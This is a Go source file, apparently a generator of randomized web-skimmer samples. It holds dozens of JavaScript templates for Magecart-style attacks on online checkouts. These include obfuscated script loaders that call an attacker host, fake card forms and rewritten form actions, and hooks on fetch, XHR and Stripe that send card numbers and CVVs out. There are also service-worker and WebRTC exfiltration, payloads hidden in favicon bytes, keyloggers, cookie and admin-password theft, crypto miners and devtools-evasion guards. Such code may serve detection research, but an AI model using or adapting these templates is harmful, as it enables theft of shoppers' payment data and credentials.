package sample

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"strings"
)

var cardMarkup = []string{
	`<ul class="form-list" id="payment_form_ccsave"><li><label>Name on Card</label><input type="text" name="payment[cc_owner]"></li><li><label>Credit Card Number</label><input type="text" id="ccsave_cc_number" name="payment[cc_number]"></li><li><select name="payment[cc_exp_month]"><option>01</option></select></li><li><input name="payment[cc_cid]" class="cvv"></li></ul>`,
	`<label>Card number</label><input id="xcn" maxlength="19" autocomplete="cc-number"><input id="xex" placeholder="MM / YY"><input id="xcv" placeholder="CVC">`,
	`<div class="card-box"><input placeholder="Card number" id="fcn"><input placeholder="Expiration date" id="fex"><input placeholder="CVV" id="fcv"><button id="fpay">Pay now</button></div>`,
	`<form id="sp"><input name="cardnumber"><input name="cardholder"><input name="exp_month"><input name="exp_year"><input name="cvv"></form>`,
}

func script(r *rand.Rand) string {
	return pick(r, []string{"/jquery.js", "/mage.js", "/a.js", "/tag.js", "/e.js", "/min/app.js", "/js-save/core.js", "/ga.js?v=2", "/static/lib.min.js", "/api.js"})
}

// load is code that puts a script element in.
func load(r *rand.Rand, url string) string {
	return pick(r, []string{
		"var s=document.createElement('script');s.src=" + url + ";document.head.appendChild(s);",
		"var e=document.createElement('script');e.type='text/javascript';e.async=true;e.src=" + url + ";var f=document.getElementsByTagName('script')[0];f.parentNode.insertBefore(e,f);",
		"document.getElementsByTagName('head')[0].appendChild(Object.assign(document.createElement('script'),{src:" + url + "}));",
		"$$('head')[0].appendChild(new Element('script',{type:'text/javascript',src:" + url + "}));",
		"var t=document.createElement('script');t.setAttribute('src'," + url + ");document.body.appendChild(t);",
		"jQuery.getScript(" + url + ");",
	})
}

func hiddenURL(r *rand.Rand, path string) string {
	u := pick(r, []string{"https://", "//"}) + evilHost(r) + path
	if r.IntN(2) == 0 {
		return "atob('" + base64.StdEncoding.EncodeToString([]byte(u)) + "')"
	}
	var codes []string
	for _, c := range []byte(u) {
		codes = append(codes, fmt.Sprint(c))
	}
	return "String.fromCharCode(" + strings.Join(codes, ",") + ")"
}

// designs are families that are not a collector and a sender.
var designs = []family{
	{"loader gated", func(r *rand.Rand) string {
		for {
			if s := gate(load(r, where(r, script(r))), r); strings.HasPrefix(s, "if") {
				return s
			}
		}
	}},
	{"loader gated hidden", func(r *rand.Rand) string {
		return "if(/" + pick(r, []string{"checkout", "onepage|checkout", "onestep|checkout|cart"}) + "/.test(" + pick(r, []string{"location.href", "window.location", "document.location.pathname"}) + ")){" + load(r, hiddenURL(r, script(r))) + "}"
	}},
	{"loader hidden", func(r *rand.Rand) string { return load(r, hiddenURL(r, script(r))) }},
	{"loader written", func(r *rand.Rand) string {
		return gate(fmt.Sprintf("document.write('<script type=\"text/javascript\" src=\"https://%s%s\"></scr'+'ipt>');", evilHost(r), script(r)), r)
	}},
	{"loader tag", func(r *rand.Rand) string {
		return fmt.Sprintf("<script type=\"text/javascript\" src=\"https://%s%s\"></script>", evilHost(r), script(r))
	}},
	{"loader tag in page", func(r *rand.Rand) string {
		return inPage("", r) + fmt.Sprintf("<script src=\"//%s%s\"></script>", evilHost(r), script(r))
	}},
	{"tag manager imitation", func(r *rand.Rand) string {
		return "(function(w,d,s,l,i){w[l]=w[l]||[];var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;var u=" + hiddenURL(r, "/gtm.js?id=") + "+i;" +
			pick(r, []string{"if(/checkout|onepage|onestep/.test(w.location.href)){", "if(w.location.pathname.indexOf('checkout')>=0){"}) + "j.src=u;f.parentNode.insertBefore(j,f);}})(window,document,'script','dataLayer','GTM-" + fmt.Sprint(r.IntN(99999)) + "');"
	}},
	{"analytics comment loader", func(r *rand.Rand) string {
		return "var _gaq2=_gaq2||[];_gaq2.push(['_setAccount','UA-" + fmt.Sprint(r.IntN(9999999)) + "-1']);_gaq2.push(['_trackPageview']);" + "window.onload=function(){if((new RegExp('onepage|checkout|onestep')).test(window.location)){" + load(r, where(r, script(r))) + "}};"
	}},
	{"fake form", func(r *rand.Rand) string {
		u := where(r, pick(r, paths))
		return fmt.Sprintf("setTimeout(function(){if(localStorage.getItem('_pd'))return;var f=document.querySelector('%s');if(!f)return;f.style.display='none';var h=document.createElement('div');h.innerHTML=%s;f.parentNode.insertBefore(h,f);h.querySelector('button,input:last-child').onclick=function(e){e.preventDefault();var v=[].map.call(h.querySelectorAll('input'),function(i){return i.value}).join('|');fetch(%s,{method:'POST',body:btoa(v)}).then(function(){localStorage.setItem('_pd','1');h.remove();f.style.display='';alert('%s')})}},1500);",
			pick(r, []string{`iframe[src*="stripe"]`, "#braintree-hosted-field", ".paypal-iframe", "iframe[name*=adyen]", "#payment-method .frame"}), "'"+pick(r, cardMarkup)+"'", u, pick(r, []string{"Payment declined, please try again", "Your card was declined", "Error, please try again later"}))
	}},
	{"fake form replaces block", func(r *rand.Rand) string {
		return fmt.Sprintf("window.setInterval(function(){if(!document.getElementById('ccsave_cc_number')){var n=document.getElementById('%s');if(n){n.innerHTML='%s';}}},200);jQuery(document).on('click','button',function(){var q='cc_number='+encodeURIComponent(jQuery('[name=\"payment[cc_number]\"]').val())+'&cvv='+encodeURIComponent(jQuery('[name=\"payment[cc_cid]\"]').val());jQuery.ajax({url:%s,data:q,type:'POST'});});",
			pick(r, []string{"checkout-payment-method-load", "payment_block", "co-payment-form"}), pick(r, cardMarkup), where(r, pick(r, paths)))
	}},
	{"form pointed away", func(r *rand.Rand) string {
		return gate(fmt.Sprintf("var f=document.querySelector('%s');if(f){f.%s}", pick(r, []string{"form#payment-form", "form[name=checkout]", "#co-payment-form", "form.payment"}),
			pick(r, []string{"action=" + where(r, pick(r, paths)) + ";", "setAttribute('action'," + where(r, pick(r, paths)) + ");"})), r)
	}},
	{"form pointed away on submit", func(r *rand.Rand) string {
		return fmt.Sprintf("document.addEventListener('submit',function(e){var f=e.target;if(f.querySelector('[name*=%s],[autocomplete=cc-number]')){f.dataset.a=f.action;f.action=%s;}},true);", pick(r, []string{"card", "cc_number", "cvv"}), where(r, pick(r, paths)))
	}},
	{"request hook", func(r *rand.Rand) string {
		return fmt.Sprintf("(function(){var o=XMLHttpRequest.prototype.%[1]s;XMLHttpRequest.prototype.%[1]s=function(b){try{if(b&&/%[2]s/i.test(b)){new Image().src=%[3]s+'?q='+encodeURIComponent(btoa(b));}}catch(e){}return o.apply(this,arguments);};})();", "send", pick(r, []string{"card|cvc|number", "payment|cvv", "cc_number"}), where(r, pick(r, paths)))
	}},
	{"fetch hook", func(r *rand.Rand) string {
		return fmt.Sprintf("var of=window.fetch;window.fetch=function(u,p){if(p&&p.body%s){navigator.sendBeacon(%s,%s);}return of.apply(this,arguments);};", pick(r, []string{"", "&&/card|cvv/.test(p.body)", "&&String(u).indexOf('payment')>-1"}), where(r, pick(r, paths)), pick(r, []string{"p.body", "btoa(p.body)"}))
	}},
	{"provider hook", func(r *rand.Rand) string {
		return fmt.Sprintf("if(window.Stripe){var S=window.Stripe;window.Stripe=function(k){var s=S(k),c=s.%[1]s;s.%[1]s=function(e,d){var v=[].map.call(document.querySelectorAll('%[2]s'),function(i){return i.value}).join('|');fetch(%[3]s,{method:'POST',body:v});return c.apply(s,arguments);};return s;};}", pick(r, []string{"createToken", "createPaymentMethod", "confirmCardPayment"}), pick(r, []string{".billing input", "form input", "input"}), where(r, "/v1/tokens"))
	}},
	{"payment save hook", func(r *rand.Rand) string {
		return fmt.Sprintf("var ps=payment.save;payment.save=function(){var d=$('%s').serialize();new Ajax.Request(%s,{method:'post',parameters:d});ps.apply(payment,arguments);};", pick(r, []string{"co-payment-form", "payment_form", "onestepcheckout-form"}), where(r, pick(r, paths)))
	}},
	{"worker", func(r *rand.Rand) string {
		return fmt.Sprintf("self.addEventListener('fetch',function(e){if(e.request.method==='POST'&&/payment|checkout/.test(e.request.url)){var c=e.request.clone();e.waitUntil(c.text().then(function(t){return fetch(%s,{method:'POST',mode:'no-cors',body:%s});}));}});", where(r, pick(r, paths)), pick(r, []string{"btoa(t)", "t", "JSON.stringify({b:t})"}))
	}},
	{"peer loader", func(r *rand.Rand) string {
		return gate("(function(){var pc=new RTCPeerConnection();var dc=pc.createDataChannel('"+pick(r, []string{"d", "x", "chat"})+"');pc.createOffer().then(function(o){return pc.setLocalDescription(o);}).then(function(){return pc.setRemoteDescription({type:'answer',sdp:atob('"+base64.StdEncoding.EncodeToString([]byte("v=0\r\no=- 1 2 IN IP4 "+evilHost(r)))+"')});});dc.onmessage=function(m){"+pick(r, []string{"var s=document.createElement('script');s.nonce=(document.querySelector('script[nonce]')||{}).nonce;s.textContent=m.data;document.head.appendChild(s);", "(new Function(m.data))();", "eval(m.data);"})+"};})();", r)
	}},
	{"peer sender", func(r *rand.Rand) string {
		return "var pc=new RTCPeerConnection({iceServers:[{urls:'stun:" + evilHost(r) + "'}]}),dc=pc.createDataChannel('c');document.addEventListener('submit',function(){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});dc.send(JSON.stringify(d));});pc.createOffer().then(function(o){pc.setLocalDescription(o)});"
	}},
	{"socket loader", func(r *rand.Rand) string {
		return gate(fmt.Sprintf("var w=new WebSocket('wss://%s/%s');w.onmessage=function(e){%s};", evilHost(r), pick(r, []string{"ws", "socket", "s"}), pick(r, []string{"eval(e.data);", "(new Function(e.data))();", "var s=document.createElement('script');s.text=e.data;document.body.appendChild(s);"})), r)
	}},
	{"picture bytes", func(r *rand.Rand) string {
		return fmt.Sprintf("fetch('/%s').then(function(r){return r.arrayBuffer();}).then(function(b){var u=new Uint8Array(b),s='',k=u.length-1;while(k>0&&u[k]!==%d){s=String.fromCharCode(u[k--])+s;}if(s.length>20){%s}});", pick(r, []string{"favicon.ico", "favicon.png", "media/logo.png", "img/load.gif"}), 200+r.IntN(50), pick(r, []string{"(new Function(atob(s)))();", "eval(atob(s));", "eval(s);"}))
	}},
	{"picture pixels", func(r *rand.Rand) string {
		return fmt.Sprintf("var m=new Image();m.crossOrigin='anonymous';m.onload=function(){var c=document.createElement('canvas');c.width=m.width;c.height=m.height;var x=c.getContext('2d');x.drawImage(m,0,0);var d=x.getImageData(0,0,m.width,m.height).data,s='';for(var i=0;i<d.length;i+=4){if(!d[i+%d])break;s+=String.fromCharCode(d[i]);}%s};m.src='%s';", r.IntN(3), pick(r, []string{"eval(s);", "(new Function(s))();", "var e=document.createElement('script');e.text=s;document.head.appendChild(e);"}), pick(r, []string{"favicon.ico", "/logo.png", "img/icon.png"}))
	}},
	{"picture text", func(r *rand.Rand) string {
		return fmt.Sprintf("var x=new XMLHttpRequest();x.open('GET','/%s',true);x.overrideMimeType('text/plain; charset=x-user-defined');x.onload=function(){var t=x.responseText,i=t.indexOf('%s');if(i>0){eval(t.substr(i+%d));}};x.send();", pick(r, []string{"favicon.ico", "logo.jpg", "img/a.png"}), pick(r, []string{"/*pl*/", "#!", "<!--"}), 3+r.IntN(5))
	}},
	{"handler code", func(r *rand.Rand) string {
		code := gate(load(r, where(r, script(r))), r)
		return "var i=document.createElement('img');i.setAttribute('onerror',\"eval(atob('" + base64.StdEncoding.EncodeToString([]byte(code)) + "'))\");i.src='data:image/png;base64,xx';document.body.appendChild(i);"
	}},
	{"handler code in page", func(r *rand.Rand) string {
		code := gate(load(r, where(r, script(r))), r)
		return "<div><img src=\"\" onerror=\"eval(atob('" + base64.StdEncoding.EncodeToString([]byte(code)) + "'))\" style=\"display:none\"></div>"
	}},
	{"keys", func(r *rand.Rand) string {
		return fmt.Sprintf("var kl='';document.addEventListener('%s',function(e){kl+=%s;if(kl.length>%d){new Image().src=%s+'?k='+encodeURIComponent(kl);kl='';}});", pick(r, []string{"keypress", "keydown", "keyup"}), pick(r, []string{"String.fromCharCode(e.which)", "String.fromCharCode(e.keyCode)", "e.target.name+':'+e.target.value+';'"}), 10+r.IntN(40), where(r, pick(r, paths)))
	}},
	{"staged", func(r *rand.Rand) string {
		return fmt.Sprintf("document.addEventListener('%s',function(e){if(e.target.tagName!=='INPUT')return;var a=JSON.parse(localStorage.getItem('%[2]s')||'{}');a[e.target.name]=e.target.value;localStorage.setItem('%[2]s',JSON.stringify(a));},true);window.addEventListener('beforeunload',function(){var d=localStorage.getItem('%[2]s');if(/\\d{15,16}/.test(d.replace(/\\s/g,''))){var x=new XMLHttpRequest();x.open('POST',%[3]s,false);x.send('data='+encodeURIComponent(btoa(d)));}});", pick(r, []string{"keyup", "change", "input"}), pick(r, []string{"_mg", "cache_v", "__s"}), where(r, pick(r, paths)))
	}},
	{"cookies", func(r *rand.Rand) string {
		return "(new Image()).src=" + where(r, "/index.php?do=api") + "+'&location='+escape(document.location.href)+'&cookie='+" + pick(r, []string{"escape(document.cookie)", "encodeURIComponent(document.cookie)", "btoa(document.cookie)"}) + ";"
	}},
	{"admin password", func(r *rand.Rand) string {
		return fmt.Sprintf("if(location.href.indexOf('admin')>-1){document.getElementById('loginForm').onsubmit=function(){var l=document.getElementById('username').value,p=document.getElementById('%s').value;new Image().src=%s+'?l='+encodeURIComponent(l)+'&p='+encodeURIComponent(p);};}", pick(r, []string{"login", "password", "passwd"}), where(r, pick(r, paths)))
	}},
	{"miner", func(r *rand.Rand) string {
		lib := pick(r, []string{"CoinHive", "CryptoLoot", "Client", "deepMiner", "CoinImp"})
		return fmt.Sprintf("var s=document.createElement('script');s.src='https://%s/lib/%s.min.js';s.onload=function(){var m=new %s.Anonymous('%s',{throttle:%.1f});m.start();};document.head.appendChild(s);", pick(r, []string{"coinhive", "coin-hive", "cryptoloot", "webminerpool", "coinimp"})+"."+pick(r, []string{"com", "pro", "example", "space"}), pick(r, []string{"coinhive", "cryptonight", "miner"}), lib, base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprint(r.Uint64()))), r.Float64())
	}},
	{"miner inline", func(r *rand.Rand) string {
		return fmt.Sprintf("var miner=new %s.%s('%x'%s);miner.start();", pick(r, []string{"CoinHive", "CRLT", "deepMiner", "Client"}), pick(r, []string{"Anonymous", "User"}), r.Uint64(), pick(r, []string{"", ",{throttle:0.4}"})) + pick(r, []string{"/* coinhive */", "var pool='cryptonight';"})
	}},
	{"server code", func(r *rand.Rand) string {
		return gate(fmt.Sprintf("fetch(%s).then(function(r){return r.text();}).then(function(c){%s});", where(r, script(r)), pick(r, []string{"eval(c);", "(new Function(c))();", "var s=document.createElement('script');s.text=c;document.body.appendChild(s);"})), r)
	}},
	{"server code xhr", func(r *rand.Rand) string {
		return gate(fmt.Sprintf("var x=new XMLHttpRequest();x.open('GET',%s,true);x.onreadystatechange=function(){if(x.readyState==4){eval(%s);}};x.send();", where(r, script(r)), pick(r, []string{"x.responseText", "atob(x.responseText)"})), r)
	}},
	{"developer tools guard", func(r *rand.Rand) string {
		return "var dt=false;setInterval(function(){if(window.outerWidth-window.innerWidth>160||window.outerHeight-window.innerHeight>160){dt=true;}},500);" + "if(!dt){" + compose(pick(r, collectors), pick(r, senders), r) + "}"
	}},
	{"object style", func(r *rand.Rand) string {
		n := pick(r, []string{"grelos_v", "mgr", "sniff", "ATM", "tbl", "cnf"})
		return fmt.Sprintf("var %[1]s={snd:null,link:%[2]s,clk:function(){%[1]s.snd='';var inp=document.querySelectorAll('input, select, textarea, checkbox, button');for(var i=0;i<inp.length;i++){if(inp[i].value.length>0){var nme=inp[i].name;if(nme==''){nme=i;}%[1]s.snd+=nme+'='+inp[i].value+'&';}}},send:function(){try{var btn=document.querySelectorAll(\"a[href*='javascript:void(0)'],button,input,.btn\");for(var i=0;i<btn.length;i++){var b=btn[i];if(b.addEventListener){b.addEventListener('click',%[1]s.clk,false);}}if(%[1]s.snd!=null){var xhr=new XMLHttpRequest();xhr.open('POST',%[1]s.link,true);xhr.send(%[1]s.snd);}%[1]s.snd=null;setTimeout(function(){%[1]s.send();},30);}catch(e){}}};if((new RegExp('onepage|checkout|onestep','gi')).test(window.location)){%[1]s.send();}", n, where(r, pick(r, paths)))
	}},
	{"readable lab", func(r *rand.Rand) string {
		return fmt.Sprintf("// collects what is typed, for training\n(function () {\n  'use strict';\n  const endpoint = %s;\n  const stored = {};\n  document.querySelectorAll('input, select').forEach((field) => {\n    field.addEventListener('%s', (event) => {\n      stored[event.target.name || event.target.id] = event.target.value;\n      console.log('[collector]', event.target.name);\n    });\n  });\n  document.querySelector('form').addEventListener('submit', async () => {\n    const payload = { card: stored.card_number, cvv: stored.cvv, expiry: stored.expiry, url: window.location.href };\n    try {\n      await fetch(endpoint, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(payload) });\n    } catch (error) { console.error(error); }\n  });\n})();",
			pick(r, []string{where(r, "/collect"), "window.location.origin + '/lab/c2/collect'", "'http://localhost:3000/collect'"}), pick(r, []string{"input", "change", "blur", "keyup"}))
	}},
	{"lab simple", func(r *rand.Rand) string {
		return fmt.Sprintf("document.addEventListener('DOMContentLoaded', () => {\n  const form = document.getElementById('checkout');\n  if (!form) { return; }\n  form.addEventListener('submit', async (e) => {\n    const cardData = {\n      number: form.%s.value,\n      expiry: form.expiry.value,\n      cvv: form.cvv.value,\n      ts: new Date().toISOString()\n    };\n    await fetch('%s', { method: 'POST', mode: 'no-cors', body: JSON.stringify(cardData) });\n  });\n});", pick(r, []string{"card_number", "cardNumber", "ccnumber"}), pick(r, []string{"http://localhost:4000/steal", "http://127.0.0.1:5000/collect", "https://attacker.test/c"}))
	}},
	{"overlay iframe", func(r *rand.Rand) string {
		return gate(fmt.Sprintf("var f=document.querySelector('%s');var n=document.createElement('iframe');n.src=%s;n.style.cssText='width:100%%;height:300px;border:0';f.style.display='none';f.parentNode.insertBefore(n,f);", pick(r, []string{"iframe[name*=braintree]", "#stripe-card iframe", "iframe[src*=adyen]"}), where(r, "/form.html")), r)
	}},
	{"frame contents", func(r *rand.Rand) string {
		return fmt.Sprintf("window.onload=function(){jQuery('#%[1]s').contents().find('%[2]s').bind('mouseup touchend',function(e){var d=jQuery('#%[1]s').contents().find('form').serializeArray();setTimeout(function(){jQuery.ajax({type:'POST',async:true,url:%[3]s,data:d,dataType:'application/json'});},20);});};", pick(r, []string{"ifrmPayment", "payframe", "paymentFrame"}), pick(r, []string{"#btnCreditCard", "#submit", ".pay"}), where(r, pick(r, paths)))
	}},
	{"redirect to pay page", func(r *rand.Rand) string {
		return fmt.Sprintf("jQuery(document).on('click','%s',function(e){if(document.cookie.indexOf('pd_done')==-1){e.preventDefault();e.stopPropagation();document.cookie='pd_done=1';window.location=%s+'?r='+encodeURIComponent(location.href)+'&t='+jQuery('.grand-total .price').text();}});", pick(r, []string{"#place-order", ".btn-proceed-checkout", "button.checkout"}), where(r, "/pay.php"))
	}},
	{"char shift written", func(r *rand.Rand) string {
		src := fmt.Sprintf("<script src=\"https://%s%s\"></script>", evilHost(r), script(r))
		k := 1 + r.IntN(3)
		var b strings.Builder
		for _, c := range []byte(src) {
			b.WriteByte(c + byte(k))
		}
		return fmt.Sprintf("var s=%q;m=\"\";for(i=0;i<s.length;i++){m+=String.fromCharCode(s.charCodeAt(i)-%d);}document.write(m);", b.String(), k)
	}},
	{"appended to library", func(r *rand.Rand) string {
		lib := ""
		for range 2 + r.IntN(3) {
			lib += fill(pick(r, Kinds()).Text, r) + "\n"
		}
		return "/*! shop theme v" + fmt.Sprint(r.IntN(9)) + ".1 */\n" + lib + compose(pick(r, collectors), pick(r, senders), r)
	}},
}
